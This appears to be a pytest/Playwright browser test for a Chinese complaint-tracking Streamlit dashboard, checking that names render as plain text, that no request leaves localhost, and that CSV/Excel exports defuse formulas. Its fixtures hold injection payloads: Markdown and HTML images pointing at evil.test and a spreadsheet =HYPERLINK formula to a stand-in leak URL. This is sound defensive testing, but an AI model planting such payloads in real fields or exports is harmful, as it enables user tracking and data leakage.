"""Text from data is shown as text, in headless Chromium, on every page.

A platform, sector, problem type, username, share-link label and import column are named
with Markdown that would fetch outside images, make bold or coloured text, or typeset
LaTeX. On every dashboard page (public board, share link, logged in) and every staff and
admin page, no request leaves 127.0.0.1 and the names are visible character for character.
"""

from __future__ import annotations

import re
from urllib.parse import quote

import pytest
from sqlalchemy import select

from models.access import sharing, users
from models.access.roles import CLI
from models.store import schema
from models.store.db import get_engine, session_scope
from models.store.tables import Complaint
from tests.browser import (
    ARTIFACTS,
    LOCAL_PREFIXES,
    choose_download,
    reply_band,
    streamlit_server,
    wait_for_login_cookie,
    wait_idle,
)
from tests.dashboard_helpers import PAGES
from tests.factories import add_complaints, add_platforms

pytestmark = pytest.mark.browser
playwright = pytest.importorskip("playwright.sync_api")

PASSWORD = "correct-horse-battery"
PLATFORM = "XSS平台![x](http://evil.test/x.png)"
LOUD = "**粗体**:red[红色]平台"
SECTOR = '<img src="http://evil.test/s.png">赛道'
PROBLEM = r"$\LaTeX$问题![p](http://evil.test/p.png)"
USERNAME = "![u](http://evil.test/u.png)"
LABEL = "**报道**![l](http://evil.test/l.png)"
COLUMN = ":material/warning:![c](http://evil.test/c.png)"
FORMULA = '=HYPERLINK("http://evil.test/?leak","点我")'
WORD_JOINER = "\u2060"  # invisible; dashboard.markup puts it before URLs (no autolinks)


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    folder = tmp_path_factory.mktemp("markdown-e2e")
    url = f"sqlite:///{folder / 'md.db'}"
    engine = get_engine(url)
    schema.upgrade(engine)
    add_platforms(
        engine, (PLATFORM, SECTOR, True), (LOUD, SECTOR, False), (FORMULA, "社交电商", True)
    )
    base = {"platform": PLATFORM, "problem_type": PROBLEM, "province": "广东省"}
    add_complaints(
        engine,
        [
            {
                **base,
                "external_id": "RATED",
                "submitted_at": "2024-05-10 09:00",
                "replied_at": "2024-05-11 09:00",
                "reply": "已处理",
                "satisfaction": "8",
            },
            {
                **base,
                "external_id": "REPLIED",
                "submitted_at": "2024-06-10 09:00",
                "replied_at": "2024-06-11 09:00",
                "reply": "已处理",
            },
            {**base, "external_id": "WAITING", "submitted_at": "2024-07-10 09:00"},
            {
                **base,
                "platform": FORMULA,
                "external_id": "LINK",
                "submitted_at": "2024-07-11 09:00",
            },
            {
                **base,
                "platform": LOUD,
                "external_id": "PENDING",
                "submitted_at": "2024-08-10 09:00",
                "status": "待审核",
            },
        ],
    )
    with session_scope(engine) as session:
        users.add_user(session, CLI, USERNAME, "admin", PASSWORD)
        _, token = sharing.create_link(session, CLI, label=LABEL)
        ids = dict(session.execute(select(Complaint.external_id, Complaint.id)).all())
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    env = {
        "TOUSU_DATABASE_URL": url,
        "TOUSU_SECRETS_DIR": str(folder / "secrets"),
        "TOUSU_PUBLIC_DASHBOARDS": "1",
    }
    with streamlit_server(env) as server:
        yield server, token, ids, folder


class Tab:
    """A browser tab that records every request it makes."""

    def __init__(self, browser):
        self.context = browser.new_context(
            viewport={"width": 1400, "height": 1000}, accept_downloads=True
        )
        self.page = self.context.new_page()
        self.requests: list[str] = []
        self.page.on("request", lambda r: self.requests.append(r.url))

    def open(self, url: str) -> None:
        self.page.goto(url)
        wait_idle(self.page)

    def check(self, name: str, *visible: str) -> None:
        """No request left the machine; no data became an image, link, bold or formula;
        each of ``visible`` is on screen exactly as typed."""
        page = self.page
        page.wait_for_timeout(1200)  # let charts, metrics and tabs settle
        wait_idle(page)
        page.screenshot(path=ARTIFACTS / "screenshots" / f"markdown-{name}.png")
        foreign = [u for u in self.requests if not u.startswith(LOCAL_PREFIXES)]
        assert foreign == [], (name, foreign)
        images = page.evaluate("Array.from(document.images).map(i => i.src)")
        assert [s for s in images if not s.startswith(LOCAL_PREFIXES)] == [], name
        links = page.evaluate("Array.from(document.links).map(a => a.href)")
        assert [h for h in links if not h.startswith(LOCAL_PREFIXES)] == [], name
        assert page.locator(".katex").count() == 0, name
        assert page.locator("strong", has_text="粗体").count() == 0, name
        assert page.locator("strong", has_text="报道").count() == 0, name
        assert page.locator('[data-testid="stException"]').count() == 0, name
        text = page.inner_text("body").replace(WORD_JOINER, "")
        for value in visible:
            assert value in text, (name, value)

    def choose(self, label: str, option: str | re.Pattern) -> None:
        self.page.get_by_label(label).click()
        self.page.get_by_role("option", name=option, exact=True).click()
        wait_idle(self.page)

    def close(self) -> None:
        self.context.close()


def visit_dashboards(tab: Tab, base: str, who: str, case: tuple[int, str], *always: str) -> None:
    """Every dashboard page, each opened where it shows the hostile names."""
    assert set(PAGES) == {
        "overview",
        "regions",
        "demographics",
        "ratings",
        "leaderboard",
        "cases",
        "report",
    }
    tab.open(f"{base}/overview?period=2024")
    tab.check(f"{who}-overview", *always)
    for page in ("regions", "demographics"):
        tab.open(f"{base}/{page}?period=2024")
        tab.check(f"{who}-{page}", *always)
    tab.open(f"{base}/ratings?period=2024&rp={quote(PLATFORM)}")
    tab.check(f"{who}-ratings", f"“{PLATFORM}”共获得", f"{PLATFORM} 月度综合指数", *always)
    tab.open(f"{base}/leaderboard?period=2024")
    tab.page.get_by_role("tab").filter(has_text="赛道").click()
    tab.check(f"{who}-leaderboard", SECTOR, f"{SECTOR}投诉榜", f"{SECTOR} 投诉量 TOP", *always)
    case_id, platform = case
    tab.open(f"{base}/cases?period=2024&case={case_id}")
    tab.check(f"{who}-cases", platform, PROBLEM, *always)
    tab.open(f"{base}/report")
    tab.choose("赛道", SECTOR)
    tab.page.get_by_role("button", name="生成报告").click()
    tab.check(f"{who}-report")
    preview = tab.page.frame_locator("iframe").first.frame_locator("iframe")  # sandboxed
    report = preview.locator("body").inner_text()
    assert PLATFORM in report.replace(WORD_JOINER, "")  # as typed: no image, no link


def test_public_board_and_share_link_show_names_as_text(site, browser):
    base, token, ids, _ = site
    tab = Tab(browser)
    visit_dashboards(tab, base, "public", (ids["RATED"], PLATFORM))
    tab.close()

    shared = Tab(browser)
    for page in ("overview", "leaderboard"):
        shared.open(f"{base}/{page}?share={token}")
        shared.check(f"share-{page}", LABEL)
    shared.close()


def test_staff_and_admin_pages_show_names_as_text(site, browser):
    base, _token, ids, folder = site
    tab = Tab(browser)
    tab.open(f"{base}/login")
    tab.page.get_by_label("用户名").fill(USERNAME)
    tab.page.get_by_label("密码").fill(PASSWORD)
    tab.page.get_by_role("button", name="登录").click()
    wait_idle(tab.page)
    wait_for_login_cookie(tab.context)  # before opening other addresses
    signed_in = f"已登录：{USERNAME}"
    tab.check("login", signed_in)
    visit_dashboards(tab, base, "staff", (ids["PENDING"], LOUD), signed_in)

    tab.open(f"{base}/replies")
    reply_band(tab.page)  # WAITING is from 2024
    tab.choose("录入回复的投诉（也可在表格中选择）", re.compile(rf"^{ids['WAITING']} · "))
    tab.check("replies", PLATFORM, PROBLEM, signed_in)
    tab.open(f"{base}/scores")
    tab.choose("待评价的投诉", str(ids["REPLIED"]))
    tab.check("scores", PLATFORM, PROBLEM)
    tab.open(f"{base}/review")
    tab.check("review", LOUD, PROBLEM)

    tab.open(f"{base}/imports")
    upload = folder / "columns.csv"
    upload.write_text(f"投诉平台,投诉时间,问题类型,{COLUMN}\n云集,2024-05-01,退款问题,x\n")
    tab.page.locator('input[type="file"]').set_input_files(str(upload))
    wait_idle(tab.page)
    tab.check("imports", f"忽略未知列“{COLUMN}”")

    for page in ("platforms", "users", "shares", "audit"):
        tab.open(f"{base}/{page}")
        tab.check(page, signed_in)
    tab.open(f"{base}/platforms")
    tab.choose("选择平台", LOUD)
    tab.check("platforms-edit")
    tab.open(f"{base}/account")
    tab.check("account", f"当前用户：{USERNAME}")
    tab.close()


def test_downloads_from_the_page_never_hold_formulas(site, browser):
    """What a visitor downloads (CSV and Excel) holds the platform name as inert text."""
    import csv
    import io
    import zipfile

    from openpyxl import load_workbook

    base, _token, _ids, _folder = site
    tab = Tab(browser)
    tab.open(f"{base}/cases?period=2024&typical=false")
    text = choose_download(tab.page, "下载 CSV").path().read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    platforms = [row[rows[0].index("投诉平台")] for row in rows[1:]]
    assert "'" + FORMULA in platforms and FORMULA not in platforms
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    data = choose_download(tab.page, "下载 Excel").path().read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
    tab.check("downloads")
    tab.close()
